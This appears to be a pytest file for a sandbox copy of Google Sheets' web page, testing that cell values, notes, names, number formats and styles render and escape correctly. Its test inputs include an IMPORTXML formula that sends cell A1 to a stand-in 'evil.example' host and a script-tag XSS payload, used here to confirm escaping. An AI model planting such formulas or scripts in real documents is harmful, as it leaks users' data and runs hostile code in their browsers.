"""The sandbox's pages: what a person sees of a spreadsheet."""

from __future__ import annotations

import html
from typing import Any

import pytest
from starlette.testclient import TestClient

from sandbox.google import create_app, edits
from sandbox.google.seed import REPORTS_FOLDER, SHARED_SPREADSHEET
from tests.sandbox.google_book import area, cells, text, update_sheet

FIELDS = "userEnteredValue,note"


class Page:
    """A spreadsheet and its page."""

    def __init__(self) -> None:
        app = create_app()
        self.state, self.browser = app.state.google, TestClient(app)
        self.id = self.state.add_spreadsheet("Report", REPORTS_FOLDER)

    def edit(self, *requests: dict[str, Any]) -> None:
        with self.state.changing(self.id) as edited:
            edits.apply(edited, list(requests))

    def read(self) -> str:
        reply = self.browser.get(f"/spreadsheets/d/{self.id}/edit")
        assert reply.status_code == 200
        return reply.text

    def cell(self, at: str) -> str:
        """The element of one cell."""
        before, _, after = self.read().partition(f'data-at="{at}"')
        return before[before.rindex("<td") :] + after[: after.index("</td>")]


@pytest.fixture
def page() -> Page:
    return Page()


NAMES = [
    '=IMPORTXML("http://evil.example/?"&A1,"//a")',
    "<script>alert(1)</script>",
    "Zoë O'Brien 🌵",
]


def test_a_name_is_shown_as_typed(page: Page) -> None:
    for name in NAMES:
        page.edit(cells(FIELDS, {**text(name), "note": f"Also {name}"}))
        shown = page.cell("A1")
        assert html.unescape(shown.rpartition(">")[2]) == name
        assert 'class="string noted"' in shown
        assert html.unescape(shown.partition('title="')[2].partition('"')[0]) == f"Also {name}"
        assert "<script>alert" not in page.read()


def test_names_of_files_and_sheets_are_escaped(page: Page) -> None:
    page.edit(update_sheet("title", title="<b>tab</b>"))
    page.state.spreadsheets[page.id].properties["title"] = "<i>book</i>"
    page.state.files[page.id].name = "<i>book</i>"
    for shown in (page.read(), page.browser.get("/spreadsheets").text):
        assert "&lt;i&gt;book" in shown
        assert "<i>book" not in shown
        assert "<b>tab" not in shown


NUMBERS = {
    "1.01": (1.005, "0.00"),
    "-0.50": (-0.5, "0.00"),
    "2026-11-04 09:00:00": (46330.375, "yyyy-mm-dd hh:mm:ss"),
    "0.3": (0.1 + 0.2, "@"),
    "7": (7, "0;[Red]-0"),
}


def test_numbers_and_styles_are_drawn(page: Page) -> None:
    style = {
        "backgroundColorStyle": {"rgbColor": {"red": 1}},
        "horizontalAlignment": "CENTER",
        "textFormat": {"bold": True, "fontSize": 12},
    }
    names = ("numberFormat", *style)
    fields = ",".join(["userEnteredValue", *(f"userEnteredFormat.{name}" for name in names)])
    shown = []
    for number, pattern in NUMBERS.values():
        drawn = style | {"numberFormat": {"type": "NUMBER", "pattern": pattern}}
        value = {"userEnteredValue": {"numberValue": number}, "userEnteredFormat": drawn}
        page.edit(cells(fields, value))
        shown.append(page.cell("A1").rpartition(">")[2])
    assert shown == list(NUMBERS)
    cell = page.cell("A1")
    for rule in ("background-color:#ff0000", "text-align:center", "font-weight:bold", "12pt"):
        assert rule in cell


def test_frozen_and_filtered(page: Page) -> None:
    grid = {"gridProperties": {"frozenRowCount": 1}}
    page.edit(
        cells(FIELDS, text("Header")),
        update_sheet("gridProperties.frozenRowCount", **grid),
        {"setBasicFilter": {"filter": {"range": area(0, 1, 0, 2)}}},
    )
    assert 'class="frozen last-frozen"' in page.read()
    assert 'class="filter"' in page.cell("A1")
    assert 'class="filter"' not in page.cell("C1")


def test_a_big_sheet_is_cut(page: Page) -> None:
    grid = {"rowCount": 3000, "columnCount": 2}
    page.edit(
        update_sheet("gridProperties(rowCount,columnCount)", gridProperties=grid),
        cells(FIELDS, text("last"), start={"rowIndex": 2499}),
    )
    shown = page.read()
    assert 'data-at="A1000"' in shown
    assert 'data-at="A1001"' not in shown
    assert "1,500 more rows are not shown." in shown


def test_the_index_lists_folders_and_spreadsheets(page: Page) -> None:
    shown = page.browser.get("/spreadsheets").text
    for name in ("Attendance reports", "My Drive folder", "Doubles", "Report"):
        assert name in shown
    assert f'href="/spreadsheets/d/{SHARED_SPREADSHEET}/edit"' in shown
    assert page.browser.get("/spreadsheets/d/nobody").status_code == 404
